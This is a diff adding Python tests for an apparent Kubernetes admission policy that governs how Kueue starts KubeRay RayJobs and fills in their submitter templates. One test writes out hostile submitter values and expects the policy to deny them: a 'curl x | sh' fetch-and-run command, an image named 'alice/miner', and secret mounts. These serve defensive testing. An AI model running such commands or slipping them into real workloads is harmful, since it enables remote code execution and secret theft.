@@ -213,6 +213,86 @@ def test_an_admission_checks_own_keys_pass_once_their_prefix_is_the_queues() -> 
     assert mutation.patch == [] and verdict.allowed, verdict.message()
 
 
+def default_submitter_start(flavor: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
+    """The Core's RayJob leaving the submitter to KubeRay (K8sJobMode, no
+    ``submitterPodTemplate``: the mode KubeRay's CRD defaults to), stored; and Kueue's
+    start of it: ``RunWithPodSetsInfo`` merges the flavor into ``getSubmitterTemplate``'s
+    default (the head's image, KubeRay's submitter resources) and sets it, as KubeRay
+    would make the submitter Job anyway."""
+    core = rayjob()
+    core["spec"].pop("submitterPodTemplate")
+    decision = evaluate(core, SHIPPED, namespace="ml", context=Context(CORE, State([])))
+    assert decision.allowed, decision.message()
+    before = decision.object
+    started = copy.deepcopy(before)
+    started["spec"].pop("suspend")  # KubeRay's Go type leaves a false suspend out
+    head = started["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
+    started["spec"]["submitterPodTemplate"] = {
+        "metadata": {"labels": {PODSET: "submitter"}},
+        "spec": {"restartPolicy": "Never",
+                 "nodeSelector": dict(flavor["nodeLabels"]),
+                 "tolerations": list(flavor["tolerations"]),
+                 "containers": [{"name": "ray-job-submitter",
+                                 "image": head["containers"][0]["image"],
+                                 "resources": {"limits": {"cpu": "1", "memory": "1Gi"},
+                                               "requests": {"cpu": "500m",
+                                                            "memory": "200Mi"}}}]},
+    }  # fmt: skip
+    for name, template in templates(started)[:-1]:
+        meta, spec = template["metadata"], template["spec"]
+        meta["labels"] = {**meta.get("labels", {}), PODSET: name}
+        spec["nodeSelector"] = {**flavor["nodeLabels"], **spec.get("nodeSelector", {})}
+        spec["tolerations"] = [*spec.get("tolerations", []), *flavor["tolerations"]]
+    return before, started
+
+
+def test_kueue_starts_a_platform_rayjob_whose_submitter_is_kuberays_default() -> None:
+    """Denied ownership.changed before (the e2e test_kueue_ray.py found it): the
+    submitter's template Kueue adds was a change of the spec. A template of the object's
+    own images with nothing but their resources, which KubeRay would make anyway, is not."""
+    for flavor in (A100, EMPTY):
+        before, started = default_submitter_start(flavor)
+        mutation, validation = both(started, before, KUEUE)
+        assert mutation.patch == [] and validation.allowed, validation.message()
+        stopped = copy.deepcopy(started)  # Suspend, then RestorePodSetsInfo: it stays
+        stopped["spec"]["suspend"] = True
+        assert both(stopped, started, KUEUE)[1].allowed
+
+
+def test_kueue_adding_a_submitter_that_runs_something_else_is_ownership_changed() -> None:
+    before, started = default_submitter_start(A100)
+    submitter = started["spec"]["submitterPodTemplate"]["spec"]
+    for field, value in (("image", "alice/miner"), ("command", ["sh", "-c", "curl x | sh"]),
+                         ("envFrom", [{"secretRef": {"name": "sec-api-r1"}}])):  # fmt: skip
+        hers = copy.deepcopy(started)
+        hers["spec"]["submitterPodTemplate"]["spec"]["containers"][0][field] = value
+        assert rules(both(hers, before, KUEUE)[1]) == {"ownership.changed"}, field
+    secret = [{"name": "v", "secret": {"secretName": "sec-api-r1"}}]
+    for field, value in (("serviceAccountName", "core"), ("volumes", secret)):
+        hers = copy.deepcopy(started)
+        hers["spec"]["submitterPodTemplate"]["spec"] = {**submitter, field: value}
+        assert rules(both(hers, before, KUEUE)[1]) == {"ownership.changed"}, field
+    # nor may a user add it, Kueue's or not
+    assert "ownership.changed" in rules(both(started, before, ALICE)[1])
+
+
+def test_kueue_starts_a_rayjob_whose_worker_groups_it_renders_with_empty_structs() -> None:
+    """Denied ownership.changed before (the e2e test_kueue_ray.py found it, on a queue
+    profile's RayJob, which Kueue's own webhook did not rewrite at CREATE): Kueue's start
+    is a JSON merge patch of KubeRay's Go type, whose list of worker groups comes whole,
+    each with ``scaleStrategy: {}`` (a struct, never left out); the stored object had none.
+    An empty value where the other version has no key is the same to the operator."""
+    before, started = default_submitter_start(A100)
+    for group in started["spec"]["rayClusterSpec"]["workerGroupSpecs"]:
+        group["scaleStrategy"] = {}
+    assert both(started, before, KUEUE)[1].allowed
+    # a strategy that says something is still the platform's
+    started["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["scaleStrategy"] = {
+        "workersToDelete": ["r1-worker-x"]
+    }
+    assert rules(both(started, before, KUEUE)[1]) == {"ownership.changed"}
+
+
 # --- what a run runs is never the queue's ---------------------------------------------------
 
 
